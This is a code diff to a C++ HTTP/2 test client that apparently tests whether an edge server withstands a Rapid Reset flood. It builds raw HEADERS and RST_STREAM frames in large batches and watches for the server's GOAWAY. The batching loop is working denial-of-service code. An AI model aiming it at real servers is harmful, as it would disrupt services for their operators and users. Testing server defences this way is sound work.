@@ -6,6 +6,7 @@
 #include <nghttp2/nghttp2.h>
 #include <openssl/err.h>
 #include <poll.h>
+#include <signal.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
@@ -100,6 +101,9 @@ std::string H2Client::Stream::Header(const std::string& name) const {
 }
 
 absl::StatusOr<std::unique_ptr<H2Client>> H2Client::Connect(int port, Options options) {
+  // SSL_write to a connection the edge closed (a flood it ended) must fail,
+  // not kill the test.
+  signal(SIGPIPE, SIG_IGN);
   const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
   sockaddr_in addr{};
   addr.sin_family = AF_INET;
@@ -213,16 +217,73 @@ void H2Client::Cancel(int32_t stream) {
 }
 
 absl::Status H2Client::RapidReset(const std::string& path, int count) {
-  for (int i = 0; i < count; ++i) {
-    const int32_t id = Get(path);
-    if (id < 0) return absl::InternalError(nghttp2_strerror(id));
-    nghttp2_submit_rst_stream(session_, NGHTTP2_FLAG_NONE, id, NGHTTP2_CANCEL);
+  // Raw frames, as an attacker writes them: this client's own session would
+  // hold requests back at the edge's concurrency limit and drop a HEADERS
+  // cancelled before it went out. One header block, static-table indexed.
+  std::string block = "\x82";                                               // :method GET
+  block += ssl_ != nullptr ? "\x87" : "\x86";                               // :scheme
+  block += "\x01\x09localhost";                                             // :authority
+  block += "\x04" + std::string(1, static_cast<char>(path.size())) + path;  // :path
+  auto frame = [](uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
+    std::string f;
+    const uint32_t n = static_cast<uint32_t>(payload.size());
+    f += static_cast<char>(n >> 16);
+    f += static_cast<char>(n >> 8);
+    f += static_cast<char>(n);
+    f += static_cast<char>(type);
+    f += static_cast<char>(flags);
+    for (int shift : {24, 16, 8, 0}) f += static_cast<char>(stream >> shift);
+    return f + payload;
+  };
+  const std::string cancel("\0\0\0\x08", 4);
+  uint32_t id = static_cast<uint32_t>(nghttp2_session_get_next_stream_id(session_));
+  std::string batch;
+  for (int i = 0; i < count; ++i, id += 2) {
+    batch += frame(0x1, 0x5, id, block);   // HEADERS, END_STREAM | END_HEADERS
+    batch += frame(0x3, 0x0, id, cancel);  // RST_STREAM CANCEL
+    if (batch.size() < 16384 && i + 1 < count) continue;
+    out_ += batch;
+    batch.clear();
     if (!Flush()) return absl::UnavailableError(absl::StrCat("the edge closed after ", i));
-    streams_.erase(id);
-    ReadSome(absl::ZeroDuration());  // its answers, and whether it had enough
-    if (closed_) return absl::UnavailableError(absl::StrCat("the edge closed after ", i));
+    DrainRaw(absl::ZeroDuration());
+    if (closed_ || goaway_)
+      return absl::UnavailableError(absl::StrCat("the edge ended it after ", i));
   }
   return absl::OkStatus();
+}
+
+bool H2Client::DrainRaw(absl::Duration wait) {
+  const absl::Time deadline = absl::Now() + wait;
+  do {
+    const bool buffered = ssl_ != nullptr && SSL_pending(ssl_) > 0;
+    if (!buffered) {
+      pollfd p{fd_, POLLIN, 0};
+      const absl::Duration left = std::max(absl::ZeroDuration(), deadline - absl::Now());
+      if (poll(&p, 1, static_cast<int>(absl::ToInt64Milliseconds(left))) <= 0) continue;
+    }
+    char buffer[16384];
+    const ssize_t n = ssl_ != nullptr ? SSL_read(ssl_, buffer, sizeof(buffer))
+                                      : recv(fd_, buffer, sizeof(buffer), 0);
+    if (n <= 0) {
+      closed_ = true;
+      return true;
+    }
+    raw_.append(buffer, static_cast<size_t>(n));
+    while (raw_.size() >= 9) {  // frame by frame: only GOAWAY matters here
+      const size_t length = (static_cast<uint8_t>(raw_[0]) << 16) |
+                            (static_cast<uint8_t>(raw_[1]) << 8) | static_cast<uint8_t>(raw_[2]);
+      if (raw_.size() < 9 + length) break;
+      if (raw_[3] == 0x7 && length >= 8) {
+        goaway_ = true;
+        goaway_code_ = 0;
+        for (int k = 13; k < 17; ++k)
+          goaway_code_ = (goaway_code_ << 8) | static_cast<uint8_t>(raw_[k]);
+      }
+      raw_.erase(0, 9 + length);
+    }
+    if (goaway_) return true;
+  } while (absl::Now() < deadline);
+  return closed_ || goaway_;
 }
 
 uint32_t H2Client::max_concurrent_streams() const {
